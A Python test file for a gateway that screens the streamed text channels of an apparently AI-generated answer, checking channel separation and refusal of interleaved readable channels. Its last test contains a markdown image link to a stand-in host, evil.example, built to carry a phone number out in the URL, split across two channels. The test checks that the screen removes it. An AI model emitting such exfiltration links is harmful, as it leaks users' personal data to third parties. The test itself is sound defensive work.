"""The text channels of a streamed answer (gateway._events.Channels): one exit screening
across the readable channels, each channel's text delivered on that channel, however the
channels interleave. All data invented."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from hinagata.gateway._events import Channels, OutputCheckError
from hinagata.guard import OutputRules, OutputScreen

SCREEN = OutputScreen(OutputRules(), request_text="高橋 健一さん（電話 090-1234-5678）への返信")
MAPPING = {"〔氏名1〕": "高橋 健一"}
#: Pieces of plain answers (no value, no link: nothing the screening changes).
_PLAIN = st.lists(
    st.sampled_from(
        ["ご案内", "します。", "窓口で", "申請書を", "受け付けます", "、", " ", "ので"]
    ),
    min_size=1,
    max_size=3,
).map("".join)


@settings(max_examples=150, deadline=None)
@given(
    st.lists(st.tuples(st.sampled_from([0, 1, 2]), _PLAIN), max_size=14),
    st.permutations([("text", 0), ("text", 1), ("args", 2)]),
)
def test_each_channel_gets_its_own_text_and_interleaving_is_refused(
    feeds: list[tuple[int, str]], close_order: list[tuple[str, int]]
) -> None:
    """Plain text (nothing to remove or mask): each channel sends exactly what it was
    given, in its own deltas and tail — text held for one channel while another is read
    is sent on its own channel. A readable channel that goes on after another readable
    one took over would be screened out of the order a client shows it in: the stream is
    refused (OutputCheckError); tool arguments interleave freely."""
    keys = [("text", 0), ("text", 1), ("args", 2)]
    ch = Channels(MAPPING, SCREEN)
    given_: dict[tuple[str, int], str] = {}
    sent: dict[tuple[str, int], str] = {}
    last: tuple[str, int] | None = None
    left: set[tuple[str, int]] = set()
    for i, piece in feeds:
        key = keys[i]
        readable = key[0] == "text"
        if readable:
            if last is not None and last != key:
                left.add(last)
            if key in left:
                with pytest.raises(OutputCheckError):
                    ch.feed(key, piece, readable=readable)
                return
            last = key
        given_[key] = given_.get(key, "") + piece
        sent[key] = sent.get(key, "") + ch.feed(key, piece, readable=readable)
    for key in close_order:
        if key in given_:
            sent[key] += ch.close(key, readable=key[0] == "text")
    ch.finish()
    assert sent == given_
    assert {k: ch.sent(k) for k in given_ if k[0] == "text"} == {
        k: v for k, v in given_.items() if k[0] == "text"
    }


def test_a_link_split_over_two_channels_is_removed_from_the_joined_text() -> None:
    ch = Channels({"〔電話番号1〕": "090-1234-5678"}, SCREEN)
    a, b = ("text", 0), ("text", 1)
    out = [ch.feed(a, "詳細は ![x](https://evil.example/p.png?d=")]
    out.append(ch.close(a))
    out.append(ch.feed(b, "〔電話番号1〕) をご覧ください。"))
    out.append(ch.close(b))
    ch.finish()
    joined = "".join(out)
    assert "evil.example" not in joined and "090-1234-5678" not in joined, joined
    assert {f.kind for f in ch.all_findings()} == {"exfiltration"}
